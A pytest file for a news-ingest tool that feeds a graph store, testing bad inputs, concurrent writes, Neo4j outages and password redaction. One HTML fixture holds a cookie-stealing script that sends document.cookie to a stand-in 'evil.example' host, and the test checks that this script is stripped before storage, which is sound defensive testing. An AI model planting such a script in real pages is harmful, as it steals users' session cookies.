"""Bad input and faults (issue 6): clear one-line errors, nothing lost, nothing half-written.

Inputs: empty, binary, Latin-1, UTF-16, a 50 MB file, no title or date, HTML with scripts, malformed
JSON Lines, one bad file among good ones. Faults: Neo4j unreachable, Neo4j stopped in the middle of
an ingest (a real throwaway server, really stopped), wrong credentials, two ingests at once on the
embedded store. Secrets: the password never shows up in messages or driver logs.
"""

from __future__ import annotations

import hashlib
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

import api
import cli
from graph.ladybug_store import LadybugStore
from graph.store import CredentialsError, StoreError
from loaders.documents import DEFAULT_MAX_BYTES, Document, InputError, iter_documents
from tests.helpers import hold_embedded_store

ROOT = Path(__file__).resolve().parent.parent
PY = sys.executable

GOOD = "# Ministers meet\nMay 1, 2024\n\nThe foreign ministers of France and Germany met in Berlin on Monday."
NO_HEADER = "Officials from Japan and South Korea held talks in Seoul on Tuesday."
LATIN1 = "Le ministre fran\u00e7ais a rencontr\u00e9 son homologue allemand \u00e0 Berlin."
UTF16 = "Germany\u2019s chancellor called the French president on Friday."
HTML = (
    "<html><head><title>Talks &amp; more</title><script>var stolen = document.cookie;</script>"
    "</head><body><p>The Italian prime minister met the Spanish prime minister in Rome.</p>"
    "<script>fetch('https://evil.example/?' + document.cookie)</script>"
    '<p onclick="alert(1)">They agreed to meet again.</p></body></html>'
)


def sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def cli_run(*args, env: dict | None = None, input: str | None = None):
    """The command in this process (click's runner keeps stdout and stderr apart)."""
    base = {
        "NEO4J_URI": None,
        "DIPLOGRAPH_STORE": None,
        "NEO4J_USER": None,
        "NEO4J_PASSWORD": None,
        "NEO4J_DATABASE": None,
    }
    base.update(env or {})
    return CliRunner().invoke(cli.main, [str(a) for a in args], env=base, input=input)


def cli_process(*args, env: dict | None = None, **kwargs) -> subprocess.Popen:
    """The command as a separate process, as a user runs it."""
    environ = {
        k: v
        for k, v in os.environ.items()
        if k not in {"NEO4J_URI", "NEO4J_USER", "NEO4J_PASSWORD", "DIPLOGRAPH_STORE"}
    }
    environ.update(env or {})
    return subprocess.Popen(
        [PY, str(ROOT / "cli.py"), *map(str, args)],
        cwd=ROOT,
        env=environ,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        **kwargs,
    )


def error_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("error: ")]


def bad_and_good_folder(folder: Path) -> tuple[dict[str, str], dict[str, str]]:
    """Write good and bad inputs; return {file: text sha256} of the good and {file: reason} of
    the bad."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "good.md").write_text(GOOD, encoding="utf-8")
    (folder / "no_title_no_date.txt").write_text(NO_HEADER, encoding="utf-8")
    (folder / "latin1.txt").write_bytes(LATIN1.encode("latin-1"))
    (folder / "utf16.txt").write_bytes(UTF16.encode("utf-16"))  # with a BOM
    (folder / "page.html").write_text(HTML, encoding="utf-8")
    (folder / "feed.jsonl").write_text(
        "\n".join(
            [
                json.dumps({"id": "a", "title": "One", "text": "Canada and Mexico signed a trade deal."}),
                '{"id": "b", "text": "unterminated',
                json.dumps({"id": "c", "title": ["not", "a", "string"], "text": "Peru protested."}),
                json.dumps({"id": "d", "text": "Chile and Argentina agreed to talks."}),
            ]
        ),
        encoding="utf-8",
    )
    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 50)
    with open(folder / "huge.txt", "wb") as f:  # 50 MB of text
        chunk = b"The talks went on. " * 50_000
        while f.tell() < 50 * 1024 * 1024:
            f.write(chunk)
    good = {
        "good.md": sha("The foreign ministers of France and Germany met in Berlin on Monday."),
        "no_title_no_date.txt": sha(NO_HEADER),
        "latin1.txt": sha(LATIN1),
        "utf16.txt": sha(UTF16),
        "page.html": sha(
            "The Italian prime minister met the Spanish prime minister in Rome.\n\nThey agreed to meet again."
        ),
        "feed.jsonl:1": sha("Canada and Mexico signed a trade deal."),
        "feed.jsonl:4": sha("Chile and Argentina agreed to talks."),
    }
    bad = {
        "binary.txt": "binary file, not text",
        "empty.txt": "no article text",
        "feed.jsonl:2": "malformed JSON",
        "feed.jsonl:3": "field 'title' must be a string or null",
        "huge.txt": "over the limit of 10,000,000 (raise it with --max-bytes)",
    }
    return good, bad


# --- inputs ------------------------------------------------------------------------------------


def test_one_bad_file_among_good_ones_each_named_in_one_line_good_ones_stored(tmp_path):
    good, bad = bad_and_good_folder(tmp_path / "in")
    db = tmp_path / "db"
    result = cli_run("ingest", tmp_path / "in", "--store", db)

    assert result.exit_code == 1  # some input failed
    assert "Traceback" not in result.output
    errors = error_lines(result.stderr)
    assert len(errors) == len(bad)  # one line each, nothing else
    for name, reason in bad.items():
        [line] = [e for e in errors if e.startswith(f"error: {tmp_path / 'in' / name}:")]
        assert reason in line
    assert f"{len(good)} stored, 0 already stored, {len(bad)} failed" in result.stdout

    with LadybugStore(db, read_only=True) as store:
        rows = store.query("MATCH (a:Article) RETURN a.sha256, a.title, a.published").rows
        assert sorted(r[0] for r in rows) == sorted(good.values())  # decoded right, all stored
        by_sha = {r[0]: r[1:] for r in rows}
        assert by_sha[good["no_title_no_date.txt"]] == [None, None]
        assert by_sha[good["good.md"]] == ["Ministers meet", "2024-05-01"]
        assert by_sha[good["page.html"]][0] == "Talks & more"
        graph = store.to_networkx()
    stored_text = json.dumps([attrs for _, attrs in graph.nodes(data=True)], ensure_ascii=False)
    assert "document.cookie" not in stored_text and "alert(" not in stored_text

    again = cli_run("ingest", tmp_path / "in", "--store", db)
    assert again.exit_code == 1
    assert f"0 stored, {len(good)} already stored, {len(bad)} failed" in again.stdout


def test_the_50_mb_file_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "huge.txt"
    with open(path, "wb") as f:  # 50 MB of zero bytes: if it were read it would be "binary"
        f.truncate(50 * 1024 * 1024)
    started = time.perf_counter()
    [error] = list(iter_documents(path))
    assert time.perf_counter() - started < 1
    assert isinstance(error, InputError)
    assert str(error) == (
        f"{path}: file of 52,428,800 bytes is over the limit of "
        f"{DEFAULT_MAX_BYTES:,} (raise it with --max-bytes)"
    )


def test_max_bytes_raises_the_limit_and_an_overlong_text_is_still_one_line(tmp_path):
    path = tmp_path / "huge.txt"
    path.write_bytes(b"The talks went on. " * 2_800_000)  # 53 MB, 53 million characters
    [error] = list(iter_documents(path, max_bytes=60_000_000))
    assert isinstance(error, InputError) and "\n" not in str(error)
    assert str(error).startswith(f"{path}: article text of 53,199,99")
    assert "longer than the 1,000,000 the NLP pipeline takes" in str(error)
    small = tmp_path / "small.txt"
    small.write_text(NO_HEADER)
    [error] = list(iter_documents(small, max_bytes=10))
    assert "over the limit of 10 " in str(error)
    [doc] = list(iter_documents(small, max_bytes=len(NO_HEADER)))
    assert isinstance(doc, Document)


def test_cli_max_bytes_option(tmp_path):
    small = tmp_path / "a.txt"
    small.write_text(NO_HEADER)
    result = cli_run("ingest", small, "--store", tmp_path / "db", "--max-bytes", 20)
    assert result.exit_code == 1
    assert error_lines(result.stderr) == [
        f"error: {small}: file of {len(NO_HEADER)} bytes is over the limit of 20 (raise it with --max-bytes)"
    ]
    assert "0 stored, 0 already stored, 1 failed" in result.stdout


@pytest.mark.parametrize(
    "data, reason",
    [
        (b"\xff\xfeA\x00B", "not valid UTF-16 text"),  # odd length after a UTF-16 BOM
        (b"\xfe\xff\xd8\x00\x00A", "not valid UTF-16 text"),  # a lone surrogate
    ],
)
def test_broken_utf16_is_an_input_error_not_a_crash(tmp_path, data, reason):
    path = tmp_path / "a.txt"
    path.write_bytes(data)
    [error] = list(iter_documents(path))
    assert isinstance(error, InputError) and str(error).startswith(f"{path}: {reason}")


def test_json_lines_split_only_at_newlines(tmp_path):
    """U+2028 is legal unescaped inside a JSON string; it must not cut a record in two."""
    path = tmp_path / "feed.jsonl"
    text = "Line one\u2028still the same sentence about Peru."
    path.write_text(
        json.dumps({"text": text}, ensure_ascii=False) + "\n" + json.dumps({"text": "Two."}) + "\n",
        encoding="utf-8",
    )
    docs = list(iter_documents(path))
    assert all(isinstance(d, Document) for d in docs)
    assert [d.text for d in docs if isinstance(d, Document)] == [text, "Two."]
    assert [d.source for d in docs if isinstance(d, Document)] == [f"{path}:1", f"{path}:2"]


# --- the embedded store: two ingests at once ---------------------------------------------------


def test_second_ingest_on_a_busy_embedded_store_gives_up_after_its_wait_with_a_clear_message(tmp_path):
    db = tmp_path / "db"
    article = tmp_path / "a.txt"
    article.write_text(GOOD)
    holder = hold_embedded_store(db)
    assert holder.stdin is not None
    try:
        result = cli_run("ingest", article, "--store", db, "--wait", "0.5")
        assert result.exit_code == 3
        busy = f"the embedded store at {db} is being written by another process (pid {holder.pid})"
        assert error_lines(result.stderr) == [
            f"error: {busy}; still busy after waiting 0.5s: try again when it has finished, "
            f"or wait longer with --wait"
        ]
        assert f"{busy}; waiting for it (up to 0.5s, --wait to change)" in result.stderr
        assert result.stdout == ""
    finally:
        holder.stdin.close()
        holder.wait(timeout=30)
    result = cli_run("ingest", article, "--store", db)  # free again: works, store intact
    assert result.exit_code == 0, result.output
    assert "1 stored" in result.stdout


def test_two_real_ingests_at_once_never_corrupt_the_store(tmp_path):
    good, _ = bad_and_good_folder(tmp_path / "in")
    for name in ("empty.txt", "binary.txt", "huge.txt", "feed.jsonl"):
        (tmp_path / "in" / name).unlink()
    db = tmp_path / "db"
    procs = [cli_process("ingest", tmp_path / "in", "--store", db) for _ in range(2)]
    outcomes = [(p.wait(timeout=300), *p.communicate()) for p in procs]
    codes = sorted(code for code, _, _ in outcomes)
    assert codes == [0, 0]  # the second waits for the first instead of stopping
    for _code, _out, err in outcomes:
        assert "Traceback" not in err and not error_lines(err)
    assert sorted(out.split(":")[1].split(",")[0].strip() for _, out, _ in outcomes) == [
        "0 stored",
        "5 stored",
    ]
    third = cli_process("ingest", tmp_path / "in", "--store", db)
    out, err = third.communicate(timeout=300)
    assert third.returncode == 0, err
    assert "0 stored, 5 already stored, 0 failed" in out
    with LadybugStore(db, read_only=True) as store:
        shas = store.query("MATCH (a:Article) RETURN a.sha256").rows
        counts = store.stats()
    assert len(shas) == 5 and counts["Article"] == 5
    with LadybugStore(tmp_path / "reference") as ref:  # the same files ingested alone
        api.ingest([tmp_path / "in"], ref)
        assert ref.stats() == counts


# --- Neo4j: unreachable, stopped midway, wrong credentials --------------------------------------


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_neo4j_unreachable_at_start_is_one_line_naming_the_uri_exit_3(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text(GOOD)
    uri = f"bolt://127.0.0.1:{free_port()}"
    proc = cli_process("ingest", article, "--neo4j-uri", uri, env={"NEO4J_PASSWORD": "s3cret-Unreachable"})
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 3
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: cannot reach Neo4j at {uri}: ")
    assert "Connection refused" in lines[0]
    assert "s3cret-Unreachable" not in out + err
    assert out == ""


def test_a_password_in_the_uri_never_appears_in_the_message():
    with pytest.raises(StoreError) as caught:
        from graph.neo4j_store import Neo4jStore

        Neo4jStore(f"bolt://neo4j:pa55-In-Uri@127.0.0.1:{free_port()}", password="pa55-Given")
    message = str(caught.value)
    assert "pa55" not in message and "\n" not in message
    assert message.startswith("cannot reach Neo4j at bolt://127.0.0.1:")


def test_a_non_bolt_uri_is_refused_in_one_line(tmp_path):
    result = cli_run("stats", "--neo4j-uri", "http://127.0.0.1:7474")
    assert result.exit_code == 3
    assert error_lines(result.stderr) == [
        "error: http://127.0.0.1:7474 is not a Bolt URI (bolt://host:7687 or neo4j://host:7687)"
    ]


PASSWORD = "Corr3ct-h0rse-battery"


class ThrowawayNeo4j:
    """A second Neo4j, with authentication on, started by a copy of ``neo4j-server/server.sh`` whose
    state lives in a temporary folder (the script keeps its state next to itself)."""

    def __init__(self, home: Path) -> None:
        self.home = home
        (home / "neo4j-server").mkdir(parents=True)
        shutil.copy(ROOT / "neo4j-server" / "server.sh", home / "neo4j-server" / "server.sh")
        shutil.copy(ROOT / "neo4j-server" / "pom.xml", home / "neo4j-server" / "pom.xml")
        (home / "neo4j-server" / "lib").symlink_to(ROOT / "neo4j-server" / "lib")
        self.port = free_port()
        self.uri = f"bolt://127.0.0.1:{self.port}"
        self.env = dict(
            os.environ,
            NEO4J_PORT=str(self.port),
            NEO4J_HEAP="512m",
            NEO4J_PAGECACHE="64m",
            # the script's readiness probe logs in without a password: TCP only
            PYTHON="/bin/false",
            NEO4J_EXTRA_CONF="server.config.strict_validation.enabled=false\n"
            "dbms.security.auth_enabled=true\n"
            "dbms.security.auth_max_failed_attempts=0",
        )
        self.env.pop("NEO4J_URI", None)

    def script(self, command: str) -> None:
        done = subprocess.run(
            [str(self.home / "neo4j-server" / "server.sh"), command],
            env=self.env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stdout + done.stderr

    def start(self) -> None:
        self.script("start")
        import neo4j

        deadline = time.monotonic() + 120
        while True:  # Bolt answers: wait until it authenticates
            try:
                with neo4j.GraphDatabase.driver(self.uri, auth=("neo4j", PASSWORD)) as d:
                    d.verify_connectivity()
                return
            except neo4j.exceptions.AuthError:
                return
            except Exception:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.5)

    def set_password(self) -> None:
        import neo4j

        with neo4j.GraphDatabase.driver(self.uri, auth=("neo4j", "neo4j")) as d:
            d.execute_query(
                "ALTER CURRENT USER SET PASSWORD FROM 'neo4j' TO $pw", pw=PASSWORD, database_="system"
            )

    def stop(self) -> None:
        self.script("stop")


@pytest.fixture(scope="module")
def auth_neo4j(tmp_path_factory):
    if not (ROOT / "neo4j-server" / "lib").is_dir() or not shutil.which("setsid"):
        pytest.skip("no local Neo4j jars (neo4j-server/lib) to start a throwaway server from")
    server = ThrowawayNeo4j(tmp_path_factory.mktemp("neo4j-auth"))
    server.start()
    try:
        server.set_password()
        yield server
    finally:
        server.stop()


def neo4j_env(server: ThrowawayNeo4j, password: str | None = PASSWORD) -> dict:
    env = {"NEO4J_URI": server.uri, "NEO4J_USER": "neo4j"}
    if password is not None:
        env["NEO4J_PASSWORD"] = password
    return env


@pytest.mark.neo4j
def test_wrong_credentials_one_line_exit_3_password_never_shown(auth_neo4j, tmp_path, caplog):
    article = tmp_path / "a.txt"
    article.write_text(GOOD)
    wrong = "Wr0ng-pa55word-42"
    result = cli_run("ingest", article, env=neo4j_env(auth_neo4j, wrong))
    assert result.exit_code == 3
    assert error_lines(result.stderr) == [
        f"error: Neo4j at {auth_neo4j.uri} refused the credentials of user 'neo4j'"
    ]
    assert wrong not in result.output and result.stdout == ""

    missing = cli_run("stats", env=neo4j_env(auth_neo4j, None))
    assert missing.exit_code == 3
    assert error_lines(missing.stderr) == [
        f"error: Neo4j at {auth_neo4j.uri} refused the credentials of user 'neo4j' "
        f"(no password given: set NEO4J_PASSWORD)"
    ]

    # the driver's own debug log (what a user might switch on) never holds the password either
    from graph.neo4j_store import Neo4jStore

    caplog.set_level(logging.DEBUG, logger="neo4j")
    with pytest.raises(CredentialsError) as caught:
        Neo4jStore(auth_neo4j.uri, "neo4j", wrong)
    assert wrong not in str(caught.value)
    with Neo4jStore(auth_neo4j.uri, "neo4j", PASSWORD) as ok:
        assert ok.query("RETURN 1").rows == [[1]]
    assert "HELLO" in caplog.text or "LOGON" in caplog.text  # the log did cover the login
    assert wrong not in caplog.text and PASSWORD not in caplog.text


@pytest.mark.neo4j
def test_password_is_asked_at_a_terminal_when_not_in_the_environment(auth_neo4j, monkeypatch):
    monkeypatch.setattr(cli, "can_prompt", lambda: True)
    result = cli_run("stats", "--format", "json", env=neo4j_env(auth_neo4j, None), input=PASSWORD + "\n")
    assert result.exit_code == 0, result.output
    assert "Neo4j password for neo4j" in result.stderr
    assert PASSWORD not in result.output  # typed, not echoed
    assert "Article" in json.loads(result.stdout)


@pytest.mark.neo4j
def test_neo4j_stopped_midway_keeps_what_was_committed_and_a_rerun_finishes(
    auth_neo4j, corpus, tmp_path, monkeypatch
):
    from graph.neo4j_store import Neo4jStore

    articles = sorted(corpus.glob("*.txt"))
    assert len(articles) >= 4
    env = neo4j_env(auth_neo4j)
    with Neo4jStore(auth_neo4j.uri, "neo4j", PASSWORD) as neo:
        neo.clear()

    writes = {"n": 0}
    real_write = Neo4jStore.write

    def write_then_stop_the_server(self, delta):
        real_write(self, delta)
        writes["n"] += 1
        if writes["n"] == 1:  # the first article is committed; now the server goes away
            auth_neo4j.stop()

    monkeypatch.setattr(Neo4jStore, "write", write_then_stop_the_server)
    try:
        cut = cli_run("ingest", *articles, "--batch-size", 1, env=env)
    finally:
        monkeypatch.setattr(Neo4jStore, "write", real_write)
        auth_neo4j.start()
    assert writes["n"] == 1
    assert cut.exit_code == 3
    assert "Traceback" not in cut.output and PASSWORD not in cut.output
    assert "1 stored, 0 already stored, 0 failed before the store failed" in cut.stderr
    [error] = error_lines(cut.stderr)
    assert error.startswith(f"error: lost Neo4j at {auth_neo4j.uri}") or error.startswith(
        "error: write failed"
    )
    assert error.endswith(
        "1 new article(s) were stored before that and stay stored; "
        "run the same command again to store the rest"
    )

    with Neo4jStore(auth_neo4j.uri, "neo4j", PASSWORD) as neo:
        kept = neo.stats()
    assert kept["Article"] == 1 and kept["Actor"] > 0  # the committed article, whole

    rerun = cli_run("ingest", *articles, "--batch-size", 1, env=env)
    assert rerun.exit_code == 0, rerun.output
    assert f"{len(articles) - 1} stored, 1 already stored, 0 failed" in rerun.stdout
    with Neo4jStore(auth_neo4j.uri, "neo4j", PASSWORD) as neo:
        resumed_counts, resumed = neo.stats(), neo.to_networkx()
        neo.clear()
        api.ingest(articles, neo, batch_size=1)  # the same articles in one uninterrupted run
        clean_counts, clean = neo.stats(), neo.to_networkx()
    assert resumed_counts == clean_counts and clean_counts["Article"] == len(articles)
    assert set(resumed.nodes) == set(clean.nodes)  # no duplicates, nothing missing
    assert sorted(resumed.edges(keys=True)) == sorted(clean.edges(keys=True))
